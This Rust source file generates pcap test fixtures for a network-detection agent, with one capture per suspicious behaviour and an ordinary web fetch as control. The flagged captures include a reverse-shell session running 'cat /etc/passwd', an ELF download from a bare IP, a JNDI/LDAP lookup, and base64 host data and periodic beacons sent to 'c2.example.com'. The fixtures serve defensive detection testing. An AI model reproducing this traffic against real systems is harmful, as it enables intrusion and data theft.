//! The captures of the repository: small files in tests/captures, made from what is written here.
//!
//! In: nothing. Out: pcap files of raw IP packets, the same at every run. Each is one behaviour that strategies judge, or
//! an ordinary one that they must leave alone; `crates/agent/tests/replay.rs` says which.

use std::net::Ipv4Addr;

const WORKLOAD: Ipv4Addr = Ipv4Addr::new(172, 17, 0, 2);
const OUTSIDE: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 9);
const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);
/// 2026-01-01T00:00:00Z.
const BEGIN_S: u32 = 1_767_225_600;
/// From one packet of a conversation to the next.
const STEP_MS: u32 = 20;

const SYN: u8 = 2;
const ACK: u8 = 0x10;
const PUSH: u8 = 8;
const FIN: u8 = 1;
const TCP: u8 = 6;
const UDP: u8 = 17;

/// Who speaks.
#[derive(Clone, Copy, PartialEq)]
enum Side {
    Client,
    Server,
}
use Side::{Client, Server};

/// A pcap of raw IP with microseconds.
struct Pcap {
    bytes: Vec<u8>,
    now_ms: u32,
}

impl Pcap {
    fn new() -> Self {
        // Magic, version 2.4, zone, accuracy, longest packet, LINKTYPE_RAW.
        let head = [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 101];
        Self { bytes: head.map(u32::to_le_bytes).concat(), now_ms: 0 }
    }

    fn packet(&mut self, protocol: u8, src: Ipv4Addr, dst: Ipv4Addr, rest: &[u8]) {
        let total = (20 + rest.len()) as u16;
        let len = u32::from(total);
        let time = [BEGIN_S + self.now_ms / 1000, self.now_ms % 1000 * 1000, len, len];
        self.bytes.extend(time.map(u32::to_le_bytes).concat());
        self.bytes.extend([0x45, 0]);
        self.bytes.extend(total.to_be_bytes());
        self.bytes.extend([0, 0, 0, 0, 64, protocol, 0, 0]);
        self.bytes.extend(src.octets());
        self.bytes.extend(dst.octets());
        self.bytes.extend(rest);
        self.now_ms += STEP_MS;
    }

    /// A connection of the workload, from its opening to its end.
    fn connection(&mut self, ports: (u16, u16), said: &[(Side, &[u8])]) {
        let mut next = [0_u32, 0];
        let mut segment = |pcap: &mut Self, side: Side, flags: u8, payload: &[u8]| {
            let (own, src, dst) = match side {
                Client => (0, (WORKLOAD, ports.0), (OUTSIDE, ports.1)),
                Server => (1, (OUTSIDE, ports.1), (WORKLOAD, ports.0)),
            };
            let mut rest = [src.1.to_be_bytes(), dst.1.to_be_bytes()].concat();
            rest.extend(next[own].to_be_bytes());
            rest.extend(next[1 - own].to_be_bytes());
            rest.extend([0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
            rest.extend(payload);
            pcap.packet(TCP, src.0, dst.0, &rest);
            next[own] += payload.len() as u32 + u32::from(flags & (SYN | FIN) != 0);
        };
        segment(self, Client, SYN, b"");
        segment(self, Server, SYN | ACK, b"");
        segment(self, Client, ACK, b"");
        for (side, payload) in said {
            segment(self, *side, PUSH | ACK, payload);
        }
        segment(self, Client, FIN | ACK, b"");
        segment(self, Server, FIN | ACK, b"");
    }

    /// The workload asks for a name and gets the address of the server outside.
    fn lookup(&mut self, name: &str) {
        let mut question = Vec::new();
        for label in name.split('.') {
            question.push(label.len() as u8);
            question.extend(label.bytes());
        }
        question.extend([0, 0, 1, 0, 1]);
        let query = [&b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"[..], &question].concat();
        let answer = [
            &b"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00"[..],
            &question,
            b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04",
            &OUTSIDE.octets(),
        ]
        .concat();
        for (src, dst, message) in [
            ((WORKLOAD, 50_000_u16), (RESOLVER, 53_u16), query),
            ((RESOLVER, 53), (WORKLOAD, 50_000), answer),
        ] {
            let len = (8 + message.len()) as u16;
            let head = [src.1.to_be_bytes(), dst.1.to_be_bytes(), len.to_be_bytes(), [0, 0]].concat();
            self.packet(UDP, src.0, dst.0, &[head, message].concat());
        }
    }

    fn pass_ms(&mut self, ms: u32) {
        self.now_ms += ms;
    }
}

/// Every capture: its path and its bytes.
pub fn captures() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("tests/captures/shell-session.pcap", shell_session()),
        ("tests/captures/program-by-address.pcap", program_by_address()),
        ("tests/captures/nameless-tls.pcap", nameless_tls()),
        ("tests/captures/directory-lookup.pcap", directory_lookup()),
        ("tests/captures/host-report.pcap", host_report()),
        ("tests/captures/check-ins.pcap", check_ins()),
        ("tests/captures/ordinary-web.pcap", ordinary_web()),
    ]
}

/// An operator gives commands to a shell.
fn shell_session() -> Vec<u8> {
    let mut pcap = Pcap::new();
    let said: [(Side, &[u8]); 4] = [
        (Server, b"id\n"),
        (Client, b"uid=0(root) gid=0(root) groups=0(root)\n"),
        (Server, b"cat /etc/passwd\n"),
        (Client, b"root:x:0:0:root:/root:/bin/sh\n"),
    ];
    pcap.connection((40_000, 4444), &said);
    pcap.bytes
}

/// An ELF file comes from a server that is known by address only.
fn program_by_address() -> Vec<u8> {
    let mut pcap = Pcap::new();
    let said: [(Side, &[u8]); 3] = [
        (Client, b"GET /x HTTP/1.1\r\nHost: 198.51.100.9:8000\r\nUser-Agent: curl/8.5.0\r\n\r\n"),
        (Server, b"HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n"),
        (Server, b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0and nothing behind it"),
    ];
    pcap.connection((40_000, 8000), &said);
    pcap.bytes
}

/// TLS without server name and application protocol, on a port of nobody.
fn nameless_tls() -> Vec<u8> {
    let mut hello = vec![3, 3];
    hello.extend([7; 32]); // Random.
    hello.extend([0, 0, 4, 0xc0, 0x2f, 0, 0x9c, 1, 0]); // No session; two suites; no compression.
    // Extensions: supported groups, signature algorithms.
    hello.extend([0, 16, 0, 10, 0, 4, 0, 2, 0, 29, 0, 13, 0, 4, 0, 2, 4, 1]);
    let mut answer = vec![3, 3];
    answer.extend([9; 32]);
    answer.extend([0, 0xc0, 0x2f, 0]);
    let record = |kind: u8, body: &[u8]| {
        let len = (body.len() + 4) as u16;
        let mut record = vec![22, 3, 3];
        record.extend(len.to_be_bytes());
        record.extend([kind, 0]);
        record.extend((body.len() as u16).to_be_bytes());
        record.extend(body);
        record
    };
    let mut pcap = Pcap::new();
    pcap.connection((40_000, 4782), &[(Client, &record(1, &hello)), (Server, &record(2, &answer))]);
    pcap.bytes
}

/// A lookup by JNDI: LDAP's bind at a port that is not its own.
fn directory_lookup() -> Vec<u8> {
    let mut pcap = Pcap::new();
    let said: [(Side, &[u8]); 2] = [
        (Client, b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00"),
        (Server, b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x00\x04\x00\x04\x00"),
    ];
    pcap.connection((40_000, 1389), &said);
    pcap.bytes
}

/// An agent tells of its host in what it posts.
fn host_report() -> Vec<u8> {
    let mut pcap = Pcap::new();
    pcap.lookup("c2.example.com");
    let said: [(Side, &[u8]); 3] = [
        (Client, b"POST /a HTTP/1.1\r\nHost: c2.example.com\r\nContent-Length: 80\r\n\r\n"),
        (Client, b"eyJob3N0IjogIjI2NTJmODQ4ZTFiOCIsICJwbGF0Zm9ybSI6ICJsaW51eCIsICJwaWQiOiAxMjU4fQ=="),
        (Server, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html></html>"),
    ];
    pcap.connection((40_000, 80), &said);
    pcap.bytes
}

/// The same question sixteen times, three seconds apart.
fn check_ins() -> Vec<u8> {
    let mut pcap = Pcap::new();
    pcap.lookup("c2.example.com");
    for number in 0..16 {
        let said: [(Side, &[u8]); 2] = [
            (Client, b"GET /news HTTP/1.1\r\nHost: c2.example.com\r\nAccept: */*\r\n\r\n"),
            (Server, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html></html>"),
        ];
        pcap.connection((40_000 + number, 80), &said);
        pcap.pass_ms(3000);
    }
    pcap.bytes
}

/// A page of a named server.
fn ordinary_web() -> Vec<u8> {
    let mut pcap = Pcap::new();
    pcap.lookup("www.example.com");
    let said: [(Side, &[u8]); 2] = [
        (Client, b"GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: curl/8.5.0\r\n\r\n"),
        (
            Server,
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>#!/bin/sh is how scripts begin</html>",
        ),
    ];
    pcap.connection((40_000, 80), &said);
    pcap.bytes
}
